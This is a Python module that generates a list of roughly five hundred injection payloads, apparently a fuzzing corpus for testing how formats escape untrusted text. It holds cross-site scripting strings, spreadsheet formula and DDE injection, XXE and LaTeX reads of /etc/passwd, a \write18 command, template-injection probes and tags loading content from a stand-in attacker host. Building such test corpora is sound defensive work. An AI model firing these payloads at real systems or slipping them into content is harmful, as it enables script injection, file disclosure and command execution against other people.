"""Five hundred strings that would run, load or be reckoned, where a format took them for more than words."""

from itertools import product

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "math",
    "iframe",
    "a",
)
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onclick", "onpointerenter")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "-->")
_SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:a")
_LINKED = ('<a href="{}">5 boats</a>', '<iframe src="{}">', "[5 boats]({})", "![5 boats]({})", "<{}>", "url({})")
_FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.sample.example","5 boats")', "SUM(A1:A9)")
_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "\u200b=", "\ufeff@")
_LOADED = ("script src", "link rel=stylesheet href", "img src", "object data", "embed src", "base href", "form action")
_SITES = ("//evil.sample.example/x", "https://evil.sample.example/x", "file:///etc/passwd", "\\\\evil.sample\\x")
_FIELDS = ("INCLUDEPICTURE", "DDEAUTO", "HYPERLINK", "IMPORT", "LINK", "MACROBUTTON")
_OTHERS = (
    *("</script><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<!--<script>-->", "]]>", "-->"),
    *("<?xml-stylesheet href='x'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "&#60;script&#62;"),
    *("{{7*7}}", "${7*7}", "{% include 'x' %}", "#{7*7}", "<%= 7*7 %>", "\\input{/etc/passwd}", "\\write18{id}"),
    *("}\n@misc{x,", "@comment{", "\r\nER  - \r\nTY  - BOOK", "\nTY  - BOOK\nER  - ", "\u2028alert(1)", "\x00<b>"),
    *(
        "=1+1\n=1+1",
        '"\n=1+1',
        '";=1+1',
        "a;=1+1",
        "a\t=1+1",
        "# headline",
        "> quote",
        "| a | b |",
        "***",
        "```\nx\n```",
    ),
    *(
        "<style>@import 'https://evil.sample.example'</style>",
        "<p style='background:url(x)'>",
        "<xi:include href='x'/>",
    ),
    *(
        "[a]: javascript:alert(1)\n[a]",
        "<https://evil.sample.example>",
        "/JS (app.alert(1))",
        "/URI (https://x.example)",
    ),
)

PAYLOADS: tuple[str, ...] = (
    *(f"{end}<{tag} {on}=alert(1)>" for end, tag, on in product(_BREAKS, _TAGS, _HANDLERS)),
    *(way.format(scheme) for way, scheme in product(_LINKED, _SCHEMES)),
    *(f"{sign}{formula}" for sign, formula in product(_SIGNS, _FORMULAS)),
    *(f"<{tag}='{site}'>" for tag, site in product(_LOADED, _SITES)),
    *(f'{{ {field} "{site}" }}' for field, site in product(_FIELDS, _SITES)),
    *_OTHERS,
)
